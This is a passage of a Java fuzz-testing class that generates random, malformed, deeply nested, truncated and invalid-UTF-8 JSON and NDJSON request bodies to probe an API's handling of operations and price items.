        if (random.nextInt(5) == 0) {
            body.set("metadata", randomValue(random, 3));
        }
        ArrayNode array = body.putArray("items");
        items.forEach(array::add);
        return body;
    }

    private Object randomOperation(Random random) {
        return switch (random.nextInt(5)) {
            case 0 -> Operations.names().get(random.nextInt(Operations.names().size()));
            case 1 -> NASTY[random.nextInt(NASTY.length)];
            case 2 -> randomValue(random, 2);
            case 3 -> "test.crash";
            default -> "noop";
        };
    }

    private List<JsonNode> randomItems(Random random) {
        List<JsonNode> items = new ArrayList<>();
        for (int i = 0; i < random.nextInt(6); i++) {
            items.add(random.nextInt(3) == 0 ? randomValue(random, 3) : priceItem(random));
        }
        return items;
    }

    private JsonNode priceItem(Random random) {
        ObjectNode item = NODES.objectNode();
        item.set("contentId", random.nextBoolean() ? NODES.stringNode(NASTY[random.nextInt(NASTY.length)]) : randomValue(random, 1));
        item.set("newPrice", random.nextBoolean() ? NODES.numberNode(random.nextInt(2_000_001) - 1_000_000) : randomValue(random, 1));
        return item;
    }

    private JsonNode randomValue(Random random, int depth) {
        int kind = random.nextInt(depth <= 0 ? 5 : 7);
        return switch (kind) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> NODES.numberNode(random.nextLong());
            case 3 -> NODES.numberNode(random.nextDouble() * 1e12);
            case 4 -> NODES.stringNode(NASTY[random.nextInt(NASTY.length)]);
            case 5 -> {
                ArrayNode array = NODES.arrayNode();
                for (int i = 0; i < random.nextInt(4); i++) {
                    array.add(randomValue(random, depth - 1));
                }
                yield array;
            }
            default -> {
                ObjectNode object = NODES.objectNode();
                for (int i = 0; i < random.nextInt(4); i++) {
                    object.set(NASTY[random.nextInt(NASTY.length)] + i, randomValue(random, depth - 1));
                }
                yield object;
            }
        };
    }

    /** Alternating arrays and objects, as text (a serializer would refuse to write it). */
    private static String deep(int depth) {
        StringBuilder open = new StringBuilder();
        StringBuilder close = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            open.append(i % 2 == 0 ? "{\"d\":" : "[");
            close.insert(0, i % 2 == 0 ? "}" : "]");
        }
        return open + "\"bottom\"" + close;
    }

    private static String hugeNumber(Random random) {
        return switch (random.nextInt(5)) {
            case 0 -> "1e" + (1000 + random.nextInt(1_000_000));
            case 1 -> "-1e-" + (1000 + random.nextInt(1_000_000));
            case 2 -> "9".repeat(1 + random.nextInt(2000));
            case 3 -> "NaN";
            default -> "0." + "1".repeat(1 + random.nextInt(3000));
        };
    }

    /** Accepted only if stored exactly (compared by value); else refused. */
    private Case hugeNumberCase(Random random) {
        String number = hugeNumber(random);
        return raw("application/json", "{\"operation\":\"noop\",\"items\":[{\"n\":" + number + "}]}");
    }

    private Case invalidUtf8(Random random) {
        byte[] valid = bytes(envelope(random, "noop", List.of(NODES.objectNode().put("key", "abcdef"))));
        int at = random.nextInt(valid.length);
        byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xED, (byte) 0xA0, (byte) 0x80};
        byte[] body = new byte[valid.length + 2];
        System.arraycopy(valid, 0, body, 0, at);
        body[at] = bad[random.nextInt(bad.length)];
        body[at + 1] = bad[random.nextInt(bad.length)];
        System.arraycopy(valid, at, body, at + 2, valid.length - at);
        return new Case("application/json", body);
    }

    private Case truncated(Random random) {
        byte[] valid = bytes(envelope(random, "noop", List.of(NODES.objectNode().put("key", "abcdef"), NODES.objectNode())));
        byte[] body = new byte[random.nextInt(valid.length)];
        System.arraycopy(valid, 0, body, 0, body.length);
        return new Case(random.nextBoolean() ? "application/json" : "application/x-ndjson", body);
    }

    private Case ndjson(Random random) {
        StringBuilder body = new StringBuilder(random.nextBoolean() ? "{\"operation\":\"noop\"}\n" : json.writeValueAsString(randomValue(random, 2)) + "\n");
        for (int i = 0; i < random.nextInt(5); i++) {
            body.append(random.nextInt(4) == 0 ? NASTY[random.nextInt(NASTY.length)] : json.writeValueAsString(randomValue(random, 2))).append('\n');
        }
        return raw("application/x-ndjson", body.toString());
    }

    private Case json(JsonNode body) {
        return new Case("application/json", bytes(body));
    }

    private static Case raw(String contentType, String body) {
        return new Case(contentType, body.getBytes(StandardCharsets.UTF_8));
    }

    /** Every non-ASCII character as a \\u escape, so unpaired surrogates reach the server as sent. */
    private static final tools.jackson.databind.json.JsonMapper ESCAPING = tools.jackson.databind.json.JsonMapper.builder()
            .enable(tools.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII).build();

    private byte[] bytes(JsonNode node) {
        return ESCAPING.writeValueAsString(node).getBytes(StandardCharsets.US_ASCII);
    }

    private static String preview(byte[] body) {
        String text = new String(body, StandardCharsets.UTF_8);
        return text.length() <= 160 ? text : text.substring(0, 160) + "... (" + body.length + " bytes)";
    }
}
